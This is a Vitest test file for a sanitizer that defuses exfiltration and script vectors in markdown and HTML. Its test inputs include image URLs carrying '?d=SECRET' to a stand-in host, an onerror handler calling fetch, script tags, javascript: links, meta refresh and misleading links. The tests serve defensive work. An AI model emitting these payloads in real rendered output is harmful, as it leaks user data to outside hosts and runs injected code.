import { expect, test } from "vitest";
import { defuse } from "../../src/sanitize/markup.ts";

test.each([
  ["a remote image", "![chart](https://a.example/p.png?d=SECRET)", "![chart](a.example)", ["remote-image"]],
  ["an image without scheme", "![x](//a.example/p)", "![x](a.example)", ["remote-image"]],
  ["an image with backslashes", "![x](\\\\a.example/p)", "![x](a.example)", ["remote-image"]],
  ["an image in angle brackets with a title", '![x](<https://a.example/p> "t")', '![x](<a.example> "t")', ["remote-image"]],
  ["an image whose text has a line end", "![a\nb](https://a.example/p)", "![a\nb](a.example)", ["remote-image"]],
  ["an image whose text has brackets", "![a [b] c](https://a.example/p)", "![a [b] c](a.example)", ["remote-image"]],
  ["an image with an entity for its colon", "![x](https&colon;//a.example/p)", "![x](removed)", ["remote-image"]],
  ["an image of data", "![x](data:image/svg+xml,PHN2Zz4=)", "![x](removed)", ["remote-image"]],
  ["an image in a link", "[![b](https://a.example/b.svg)](docs/x.md)", "[![b](a.example)](docs/x.md)", ["remote-image"]],
  ["an image by reference", "![x][1]\n\n[1]: https://a.example/p", "[x][1]\n\n[1]: https://a.example/p", ["remote-image"]],
  ["an HTML image", '<img src="https://a.example/p?d=S">', "(img a.example)", ["remote-element"]],
  ["an image without quotes", "<img src=https://a.example/p>", "(img a.example)", ["remote-element"]],
  ["an image with a slash for a blank", '<img/src="https://a.example/p">', "(img a.example)", ["remote-element"]],
  ["an image set", '<img srcset="https://a.example/2x 2x">', "(img a.example)", ["remote-element"]],
  ["an image with another tag in its attributes", "<img src=https://a.example/p <p>", "(img a.example)", ["remote-element"]],
  ["an image that isn't closed", '<img src="https://a.example/p', '(img src="https://a.example/p', ["active-element"]],
  ["a handler", "<img src=x onerror=\"fetch('https://a.example')\">", "(img)", ["active-element"]],
  ["a handler on any element", "<details open ontoggle=alert(1)>x</details>", "(details)x</details>", ["active-element"]],
  ["a script with its content", "a<script>steal()</script>b", "a(script)b", ["active-element"]],
  ["a script in capitals with blanks", "a<SCRIPT >steal()</SCRIPT >b", "a(script)b", ["active-element"]],
  ["a script without end", "a<script>steal()", "a(script)steal()", ["active-element"]],
  ["a frame", '<iframe src="https://a.example"></iframe>', "(iframe a.example)", ["active-element"]],
  ["a style that loads", '<p style="background:url(https://a.example)">x</p>', "(p)x</p>", ["active-element"]],
  ["a style sheet", '<link rel="stylesheet" href="https://a.example/s.css">', "(link a.example)", ["remote-element"]],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://a.example">', "(meta)", ["active-element"]],
  ["a form", '<form action="https://a.example/p"><b>x</b></form>', "(form a.example)<b>x</b></form>", ["remote-element"]],
  ["a video with a poster", '<video poster="https://a.example/p"></video>', "(video a.example)</video>", ["remote-element"]],
  ["an SVG reference", '<use xlink:href="https://a.example/s#i"/>', "(use a.example)", ["remote-element"]],
  ["a base", '<base href="https://a.example/">', "(base a.example)", ["active-element"]],
  ["a link that runs code", "[go](javascript:alert(1))", "[go](removed))", ["script-link"]],
  ["an element that runs code", '<a href=" java\nscript:alert(1)">x</a>', "(a)x</a>", ["active-element"]],
  [
    "a link that names another host",
    "[https://good.example](https://a.example/x)",
    "[https://good.example](hxxps://a.example/x)",
    ["misleading-link"],
  ],
])("defuses %s", (_name, input, text, rules) => {
  const result = defuse(input, false);
  expect({ text: result.text, rules: [...result.found.keys()] }).toEqual({ text, rules });
});

test.each([
  ["a relative image", "![diagram](docs/arch.png)"],
  ["ordinary HTML", "<details><summary>More</summary>text</details>"],
  ["a set of local images", '<img src="a.png" srcset="a.png 1x, b.png 2x">'],
  ["a local image element", '<img src="docs/a.png" alt="a">'],
  ["generics", "<T extends string>(x: T) => x"],
  ["JSX with a handler", "<Button onClick={save} disabled>Save</Button>"],
  ["a comment of a tool", "<!-- prettier-ignore -->\n| a | b |"],
  ["comparisons", "if (a < b && c > d) return a<b;"],
  ["an ordinary link", "[docs](https://docs.example.org/3/)"],
  ["a link to the host it names", "[docs.example.org](https://docs.example.org/3/)"],
  ["a bare address", "see https://example.org/a?b=c"],
  ["subscripts and calls", "a[0](x) b[1] !c[2]"],
  ["a template at standard", "{{ name }}"],
])("leaves %s", (_name, input) => {
  expect(defuse(input, false)).toEqual({ text: input, found: new Map() });
});

test("flags a link that carries data, and leaves it", () => {
  expect(defuse("[Click](https://a.example/?q=SECRET)", false)).toEqual({
    text: "[Click](https://a.example/?q=SECRET)",
    found: new Map([["link-with-data", 1]]),
  });
});

test("at strict no address can be followed and no template filled in", () => {
  expect(defuse("[docs](https://docs.example.org) http://x.example {{ name }}", true).text).toBe(
    "[docs](hxxps://docs.example.org) hxxp://x.example {( name )}",
  );
});
